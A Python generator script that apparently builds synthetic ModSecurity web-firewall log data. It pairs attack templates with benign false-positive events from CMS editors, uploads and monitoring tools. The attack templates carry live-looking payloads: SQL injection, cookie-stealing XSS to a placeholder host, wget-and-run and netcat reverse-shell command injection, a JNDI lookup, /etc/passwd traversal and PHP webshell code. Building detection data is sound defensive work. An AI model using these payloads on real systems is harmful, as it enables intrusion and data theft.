"""ModSecurity with the core rule set: attacks, and what editors, apps and monitors set off every day."""

from generator.families.network.product_story import catalogue_in_parts
from generator.families.sensors.modsecurity_forms import FORMS

catalogue_in_parts("sensors/modsecurity-sections", FORMS, r"""
SQ sqli <<403|200>> {wan} | GET /product.php?id=7%27%20UNION%20SELECT%20user,pass%20FROM%20users--%20- | ARGS:id | 7' UNION SELECT user,pass FROM users-- - | sqlmap/1.8
SQ sqli <<403|200>> {wan} | POST /<<login.php|api/search|index.php?option=com_fields>> | ARGS:<<user|q|list[fullordering]>> | <<admin' OR '1'='1'-- |1' AND SLEEP(5)#|updatexml(0x3a,concat(1,(select password from users limit 1)),1)>> | {agent}
XS xss <<403|200>> {wan} | GET /search?q=%3Cscript%3E | ARGS:q | <<<script>fetch('//{ext}/c?'+document.cookie)</script>|<img src=x onerror=eval(atob('{long}'))> >> | {agent}
CI rce <<403|200>> {wan} | <<GET|POST>> /cgi-bin/<<status|luci/;stok=/locale|ping.cgi>> | ARGS:<<cmd|country|host>> | <<;wget http://{wan2}/{word}.sh -O- /tmp/{word};sh /tmp/{word}|$(curl -s {wan2}/{word})|;nc {wan2} 4444 -e /bin/sh>> | Go-http-client/1.1
RX java <<403|200>> {wan} | GET /?x={word} | REQUEST_HEADERS:User-Agent | ${jndi:ldap://{wan2}:1389/{word}} | ${jndi:ldap://{wan2}:1389/{word}}
LF lfi <<403|200>> {wan} | GET /index.php?page=../../../../../../etc/passwd | ARGS:page | ../../../../../../etc/passwd | {agent}
WS php <<403|200>> {wan} | POST /wp-content/uploads/<<2024|2025>>/{word}.php | ARGS:<<z0|cmd|p>> | <<@eval(base64_decode($_POST['z0']))|system('id;uname -a')|assert($_REQUEST[{word}])>> | python-requests/2.31.0
RE# scanner <<403|404>> {wan} | GET /<<.env|admin/config.php|phpinfo.php|.git/config|backup.sql|{word}.bak>> | REQUEST_HEADERS:User-Agent | <<nikto|nuclei|wpscan|dirbuster>> | Mozilla/5.0 (compatible; <<Nikto/2.5.0|Nuclei|WPScan v3.8>>)
""", r"""
AE sqli <<403|200>> {any} | POST /<<wp-admin/admin-ajax.php|typo3/record/commit|administrator/index.php|api/articles>> | ARGS:<<content|data[text]|jform[articletext]|body>> | <<and select the union of both lists from our catalogue|Order 'premium' or 'basic' -- see below|drop table and chairs sale>> | {agent}
AE xss <<403|200>> {any} | POST /wp-admin/<<post.php|admin-ajax.php|customize.php>> | ARGS:<<content|custom_css|widget-text>> | <<<p style="color:red" onclick="toggle()">|<script src="https://www.googletagmanager.com/gtag/js">|<iframe src="https://www.youtube.com/embed/{word}"> >> | {agent}
AE rce <<403|200>> {lan} | POST /<<wiki/index.php|gitea/{word}/issues|nextcloud/apps/text>> | ARGS:<<wpTextbox1|content|description>> | <<run sudo systemctl restart nginx|cat /var/log/syslog ; tail -f|use wget https://{site}/install.sh>> | {agent}
AE php <<403|200>> {any} | GET /wp-admin/theme-editor.php?file=functions.php | ARGS:<<newcontent|q>> | <<phpinfo|fopen|curl_exec>> | {agent}
AE session <<200|403>> {any} | GET /cart?PHPSESSID={long} | ARGS_NAMES:PHPSESSID | PHPSESSID | {agent}
NS protocol <<200|404|301>> {any} | GET / | REQUEST_HEADERS:Host | {wan2} | <<Mozilla/5.0 (compatible; CensysInspect/1.1)|{agent}|Mozilla/5.0 zgrab/0.x>>
NS type <<403|200>> {any} | POST /<<api/v1/upload|remote.php/dav|xmlrpc.php>> | TX:0 | <<application/octet-stream|text/x-gwt-rpc|application/vnd.ms-sync.wbxml>> | <<{agent}|Outlook/16.0|Nextcloud-android/3.28>>
NS restricted <<403|404>> {any} | GET /<<downloads/driver.dll|feeds/export.csv.bak|old/readme.log>> | TX:EXTENSION | <<.dll|.bak|.log>> | {agent}
MO scanner <<403|200>> {any} | GET /<<health|status|>> | REQUEST_HEADERS:User-Agent | <<curl|python-requests|Go-http-client|check_http>> | <<curl/8.5.0|python-requests/2.31.0|Uptime-Kuma/1.23|check_http/v2.3>>
SC scanner <<403|404>> {lan} | GET /<<robots.txt|login|{word}>> | REQUEST_HEADERS:User-Agent | <<nessus|openvas|qualys>> | Mozilla/5.0 (compatible; <<Nessus SOAP|OpenVAS|Qualys WAS>>)
AE lfi <<403|200>> {any} | GET /docs?file=<<guide/../index.md|manual/etc/hosts-explained.html>> | ARGS:file | <<../index.md|etc/hosts>> | {agent}
BN. score 403 {noise} | GET /?q={word} | TX:ANOMALY_SCORE | 5 | {agent}
""")
